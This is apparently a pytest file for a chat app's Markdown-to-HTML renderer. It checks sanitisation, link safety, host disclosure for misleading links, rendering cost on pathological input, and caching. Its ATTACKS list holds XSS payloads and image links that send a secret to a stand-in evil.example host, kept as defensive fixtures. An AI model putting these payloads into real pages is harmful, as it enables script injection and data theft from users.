"""Rendering: what a model writes becomes harmless HTML, the same by pieces, at a bounded cost."""

from __future__ import annotations

import re
from threading import Thread

import pytest

from conversations import rendering
from conversations.rendering import (
    Incremental,
    clean_html,
    code,
    mathml,
    render_markdown,
    render_plain,
)
from conversations.rendering.code import HighlightTime, highlight_code
from tests.support.call_counts import counted
from tests.web.tags import acting, attributes, elements, names

ATTACKS = (
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)>",
    "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=a(1)'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>x</details>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=/logout><button>x</button></form>",
    '<div hx-get="/admin/" hx-trigger="load" data-hx-post="/x" hx-on:click="alert(1)">x</div>',
    "<div hx-vals='js:alert(1)' ws-send hx-ext=ws>x</div>",
    "[x](javascript:alert(1)) [x](jav&#x09;ascript:alert(1)) [x](data:text/html,<script>)",
    "[x](vbscript:x) [x](//evil.example) [x](\\\\evil.example) [x](https:evil.example)",
    "[x](/admin/)",
    "<javascript:alert(1)> <data:text/html,x>",
    "![a](https://evil.example/?q=SECRET) ![b][r]\n\n[r]: https://evil.example/r",
    "[![a](https://evil.example/a)](https://evil.example/b)",
    "<video poster=https://evil.example/v><audio src=//evil.example/a autoplay>",
    '<a id="csrfmiddlewaretoken" name="getElementById" style="color:url(//evil)">x</a>',
    '```"><script>alert(1)</script>\ncode\n```',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| <img src=x> | b |\n|:--|--:|\n| <script>x</script> | `y` |",
    '# <a href="x" onclick="alert(1)">h</a>',
    "<script>alert(1)</script>\n\n<style>*{background:url(//evil.example)}</style>",
    "[x](https://a.example 'onmouseover=alert(1)') <https://a.example/\"onload=1>",
    "<!--><script>alert(1)</script>-->",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
)
TAGS = {"a", "p", "br", "hr", "em", "strong", "s", "code", "pre", "span", "div", "blockquote"} | {
    *("ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6"),
    *("table", "thead", "tbody", "tr", "th", "td"),
    *mathml.ELEMENTS,
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_model_writes_neither_runs_nor_loads(attack: str) -> None:
    for html in (
        render_markdown(attack),
        "".join(Incremental().feed(attack)),
        render_plain(attack),
        clean_html(attack),
    ):
        assert not acting(html)
        assert names(html) <= TAGS
        assert attributes(html) <= {"href", "rel", "target", "class", "start", "dir"}


@pytest.mark.parametrize("attack", ATTACKS)
def test_links_lead_to_the_web_or_to_mail_and_tell_nothing(attack: str) -> None:
    for tag, attrs in elements(render_markdown(attack)):
        if tag == "a":
            assert re.match(r"https?://|mailto:", attrs["href"] or "")
            assert attrs["rel"] == "noopener noreferrer nofollow"
            assert attrs["target"] == "_blank"


def test_an_image_is_a_link_that_names_its_host() -> None:
    html = render_markdown("![a chart](https://evil.example/?q=SECRET)")
    assert 'href="https://evil.example/?q=SECRET"' in html
    assert "a chart</a>" in html
    assert '<span class="host">evil.example</span>' in html


@pytest.mark.parametrize(
    ("source", "is_named"),
    [
        ("[google.com](https://evil.example/x)", True),
        ("[https://google.com/login](https://evil.example/x)", True),
        ("[google.com](https://www.google.com/x)", False),
        ("[docs.python.org](https://docs.python.org/3/)", False),
        ("[https://docs.python.org/3/](https://docs.python.org/3/)", False),
        ("[the docs](https://docs.python.org/3/)", True),
        ("[google.com](https://docs.google.com/)", True),
        ("[docs.google.com.evil.example](https://google.com/)", True),
        ("[google.com.](https://google.com.evil.example/)", True),
    ],
)
def test_a_link_whose_text_is_not_its_host_shows_its_host(source: str, is_named: bool) -> None:
    assert ('class="host"' in render_markdown(source)) is is_named


def test_class_names_are_a_closed_list() -> None:
    html = clean_html('<span class="k banner host">a</span><p class="error plain">b</p>')
    assert html == '<span class="k host">a</span><p class="plain">b</p>'
    assert 'class="language-text"' in render_markdown("```composer error\nx\n```")


def test_markdown_of_every_day_is_shown() -> None:
    html = render_markdown(
        "# T\n\n**b** *i* ~~s~~ `c` <b>raw</b>\n\n- [x] done\n- [ ] not\n\n3. three\n\n"
        "| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n\n```py\ndef f(): return 1  # why\n```\n"
    )
    for piece in (
        *("<h1>T</h1>", "<strong>b</strong>", "<em>i</em>", "<s>s</s>", "<code>c</code>"),
        *("&lt;b&gt;raw&lt;/b&gt;", "☑ done", "☐ not", '<ol start="3" dir="auto">'),
        *(
            '<div class="table" dir="auto"><table>',
            '<th class="start">',
            '<td class="center">2</td>',
        ),
        *('<td class="end">3</td>', '<code class="language-py">', '<span class="k">def</span>'),
        *('<span class="nf">f</span>', '<span class="c"># why</span>'),
    ):
        assert piece in html


def test_a_persons_words_stay_as_they_were_written() -> None:
    assert (
        render_plain("a\r\n  <b> & *c*\x07")
        == '<p class="plain">a\n  &lt;b&gt; &amp; *c*\ufffd</p>'
    )


CORPUS = (
    "One paragraph.",
    "# Title\n\nText with **bold**\nover lines.\n\n- a\n- b\n  - c\n\n1. x\n\n2. y\n\nEnd",
    "Intro\n```python\nx = 1\n\n\ny = 2\n```\nAfter\n\n> quote\n> more\n\nTail `code`",
    "| a | b |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |\n\nText\n---\n\nabove\n\n***\n",
    "Text\n\n    code\n\n    more\n\nend",
    "1. a\n\n2. b\n\n   inner\n\n3. c\n\n- [ ] t\n- [x] u\n\n\n\nlast\\\nline  \nbreak",
    "~~~\nopen fence\n```\nstill",
    "At https://example.org/a_b?c=1&d.\n\n- www.example.org/(x)\n- ann@example.org\n\n**http://e.org**",
    "مرحبا\n\n- واحد\n\n日本語の**文章**。\n\n😀 `e`\r\n\r\ncrlf\rcr",
)


HARD = {
    "images": "![" * 25_000,
    "brackets": "[" * 50_000,
    "emphasis": "*a_ " * 12_500,
    "table": "| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 10_000,
    "wide table": "|" + "a|" * 2_000 + "\n|" + "-|" * 2_000 + "\n" + "a\n" * 5_000,
    "lists": "".join(" " * (2 * n) + "- a\n" for n in range(300)),
    "fence": "```python\n" + "x = [" * 20_000 + "\n```",
    "quotes": "> " * 10_000 + "a",
    "slow lexer": "```csharp\n" + "a\n" * 5_900 + "```",
    "many slow": ("```csharp\n" + "a\n" * 400 + "```\n\n") * 12,
    "references": "".join(f"[x{n}]: u\n" for n in range(3_000)) + "[x1] " * 2_000,
    "lines": "a\n" * 25_000,
    "items": "- a\n" * 12_000,
    "entities": "&amp" * 12_000,
    "nested": "[" * 10_000 + "a" + "](b)" * 10_000,
}


@pytest.mark.parametrize("name", HARD)
def test_no_text_takes_long(name: str) -> None:
    source = HARD[name][:20_000]
    calls, _ = counted(lambda: rendering._render(source))
    # Twice what the dearest takes; half a million calls are a tenth of a second.
    assert calls < 90 * len(source)
    whole = render_markdown(HARD[name])
    assert not acting(whole)
    assert whole


def test_text_that_is_too_long_or_too_deep_is_shown_as_written() -> None:
    for source in ("**a** " * 40_000, "> " * 30 + "deep", "- " * 30 + "deep"):
        assert render_markdown(source) == render_plain(source)


def test_a_paragraph_that_is_too_costly_leaves_the_others_alone() -> None:
    html = render_markdown("**before**\n\n" + "word *x* " * 3_000)
    assert html.startswith("<p><strong>before</strong></p>")
    assert "word *x* word" in html


def test_a_whole_text_is_rendered_once_and_kept_when_small() -> None:
    rendering._render_cached.cache_clear()
    assert render_markdown("*once*") is render_markdown("*once*")
    assert rendering._render_cached.cache_info().hits == 1
    render_markdown("long " * 10_000)
    assert rendering._render_cached.cache_info().currsize == 1


def test_threads_render_side_by_side() -> None:
    sources = [f"# {n}\n\n" + CORPUS[n % len(CORPUS)] for n in range(24)]
    found: dict[str, str] = {}

    def work(part: list[str]) -> None:
        found.update({source: rendering._render(source) for source in part})

    threads = [Thread(target=work, args=(sources[n::4],)) for n in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert found == {source: rendering._render(source) for source in sources}


def test_code_keeps_its_colours() -> None:
    shown = highlight_code("x = 'kept'", "python", HighlightTime(1_000))
    assert "<span" in shown
    none_left = HighlightTime(0)
    none_left.left = 1e-9
    assert highlight_code("x = 'kept'", "py", none_left) == shown
    assert none_left.left == 1e-9
    assert "<span" not in highlight_code("y = 'new'", "py", none_left)


def test_few_pieces_of_code_are_kept_and_short_ones_only() -> None:
    for number in range(2 * code.MOST_KEPT):
        highlight_code(f"z = {number}", "python", HighlightTime(1_000))
    highlight_code("z = 1\n" * code.KEPT_CHARS, "python", HighlightTime(10_000))
    assert 0 < len(code._kept) <= code.MOST_KEPT
    assert max(len(source) for _, source in code._kept) <= code.KEPT_CHARS
